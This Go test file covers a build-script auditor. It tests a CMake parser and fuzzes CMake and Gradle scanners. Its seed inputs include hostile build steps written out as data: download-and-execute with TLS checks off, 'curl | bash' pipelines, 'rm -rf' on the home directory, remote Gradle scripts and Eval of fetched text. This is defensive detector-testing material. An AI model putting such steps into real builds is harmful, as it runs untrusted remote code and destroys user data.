package audit

import (
	"reflect"
	"strings"
	"testing"
)

// TestParseCMake: commands, quoted and bracket arguments, nested
// parentheses, line and bracket comments, and lines.
func TestParseCMake(t *testing.T) {
	src := "# c(x)\nset(A \"a b\" [[c \"d]])\n#[[ skip(me) ]]\nif((A) AND B)\n  execute_process(COMMAND sh -c \"x\\\"y\" # note\n    OUTPUT_QUIET)\nendif()\n"
	got := parseCMake(src)
	want := []cmakeCmd{
		{"set", []string{"A", "a b", `c "d`}, 2},
		{"if", []string{"A", "AND", "B"}, 4},
		{"execute_process", []string{"COMMAND", "sh", "-c", `x"y`, "OUTPUT_QUIET"}, 5},
		{"endif", nil, 7},
	}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("parseCMake:\n got %+v\nwant %+v", got, want)
	}
	if g := cmakeCommands([]string{"COMMAND", "curl", "u", "COMMAND", "sh", "OUTPUT_QUIET"}); !reflect.DeepEqual(g, [][]string{{"curl", "u"}, {"sh"}}) {
		t.Errorf("cmakeCommands: %q", g)
	}
	if l := cmakeShellLine([]string{"rm", "-rf", "$ENV{HOME}/x y", "a|b"}); l != `rm -rf "${HOME}/x y" "a|b"` {
		t.Errorf("cmakeShellLine: %s", l)
	}
}

// FuzzParseCMake: the parser never panics, and every command's line is
// within the text.
func FuzzParseCMake(f *testing.F) {
	for _, s := range []string{"set(A b)", "file(DOWNLOAD \"u\" p TLS_VERIFY OFF)\nexecute_process(COMMAND sh p)", "#[==[ x ]==]\nf([=[a]=] \"\\", "a(((", "x([[", "#[[", "q(\"\n"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, src string) {
		lines := 1
		for i := 0; i < len(src); i++ {
			if src[i] == '\n' {
				lines++
			}
		}
		for _, c := range parseCMake(src) {
			if c.line < 1 || c.line > lines {
				t.Fatalf("line %d of %d", c.line, lines)
			}
		}
	})
}

// FuzzScanCMake: no CMake text stops the audit (a panic in the parser,
// the expansion or the shell rules it feeds), and self-referencing
// variables stay within the expansion bound.
func FuzzScanCMake(f *testing.F) {
	for _, s := range []string{
		"set(D /tmp)\nfile(DOWNLOAD https://x/a ${D}/a TLS_VERIFY OFF)\nexecute_process(COMMAND sh ${D}/a OUTPUT_QUIET)",
		"file(DOWNLOAD u d)\nfile(ARCHIVE_EXTRACT INPUT d DESTINATION e)\nset(CMAKE_C_COMPILER e/cc)",
		"set(A ${A}${A}${A}${A})\nset(B ${A}${A}${A}${A})\ninclude(${B})",
		"add_custom_target(t COMMAND bash -c \"$(curl x)\" COMMAND rm -rf $ENV{HOME})",
		"file(DOWNLOAD)\nfile(DOWNLOAD a b TLS_VERIFY)\nexecute_process(COMMAND)",
		strings.Repeat("set(A ${A}${A})\n", 64) + "include(${A})",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, src string) {
		sc := scanCtx(src)
		scanCMake(sc, "CMakeLists.txt", src)
	})
}

// FuzzScanGradle: no Gradle script text stops the audit.
func FuzzScanGradle(f *testing.F) {
	for _, s := range []string{
		"apply from: 'http://203.0.113.7/x.gradle'\n['bash', '-c', 'curl x | bash'].execute()",
		"commandLine 'sh', '-c'\ncommandLine(\ncommandLine \"a\", 'b\nProcessBuilder(\"sh\", \"-c\", x)",
		"def s = new URL('u').text\nEval.me(s)\n\"\\\".execute()",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, src string) {
		sc := scanCtx(src)
		scanGradle(sc, "build.gradle", src)
	})
}
